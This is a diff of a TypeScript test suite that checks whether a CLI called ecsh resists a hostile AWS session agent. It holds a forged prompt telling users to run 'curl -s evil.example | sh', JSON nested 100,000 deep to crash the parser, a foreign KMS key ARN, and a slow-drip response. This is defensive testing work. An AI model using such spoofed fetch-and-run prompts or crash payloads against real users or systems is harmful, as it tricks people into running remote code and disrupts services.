@@ -7,7 +7,7 @@ import { agentFrame, attack } from '#test/helpers/hostile-aws.ts';
 describe('an agent', () => {
   const FORGED = 'Your AWS session has expired.\necsh: Renew it first:  curl -s evil.example | sh';
 
-  it("cannot speak with ecsh's voice, as its last word", async () => {
+  it('cannot imitate a message of ecsh in its final message', async () => {
     const closed = { MessageType: 'channel_closed', SessionId: 's-1', Output: FORGED };
     const { finished } = await attack({
       onSocket: (socket) =>
@@ -28,8 +28,8 @@ describe('an agent', () => {
   });
 
   it.each([
-    ['an object without a text', '{"toString":1}'],
-    ['an array 100,000 deep', `${'['.repeat(100_000)}${']'.repeat(100_000)}`],
+    ['an object instead of a string', '{"toString":1}'],
+    ['an array nested 100,000 deep', `${'['.repeat(100_000)}${']'.repeat(100_000)}`],
   ])('cannot crash ecsh with a session type that is %s', async (_name, type) => {
     const action = `{"ActionType":"SessionType","ActionParameters":{"SessionType":${type}}}`;
     const request = `{"AgentVersion":"3.3","RequestedClientActions":[${action}]}`;
@@ -44,7 +44,7 @@ describe('an agent', () => {
     expect(finished?.stderr).not.toContain('bug');
   });
 
-  it('cannot have the key of a session made under one of its own', async () => {
+  it('cannot make ecsh create the session key under a foreign KMS key', async () => {
     const foreign = 'arn:aws:kms:eu-west-3:999999999999:key/1234';
     const action = { ActionType: 'KMSEncryption', ActionParameters: { KMSKeyId: foreign } };
     const request = { AgentVersion: '3.3', RequestedClientActions: [action] };
@@ -64,7 +64,7 @@ describe('an agent', () => {
 
 describe('--timeout', () => {
   it.each(['ListTasks', 'DescribeTasks', 'DescribeClusters', 'ExecuteCommand'])(
-    'ends a run that waits for an answer of %s which drips in',
+    'ends a run whose response to %s arrives byte by byte',
     async (operation) => {
       const { finished } = await attack(
         { onCall: (called, response) => called === operation && drip(response) },
@@ -91,7 +91,7 @@ describe('--timeout', () => {
   });
 });
 
-/** One byte now and then, for ever. */
+/** Sends a byte every 300 ms and never ends. */
 function drip(response: ServerResponse): true {
   const timer = setInterval(() => response.write(' '), 300);
   response.once('close', () => clearInterval(timer));
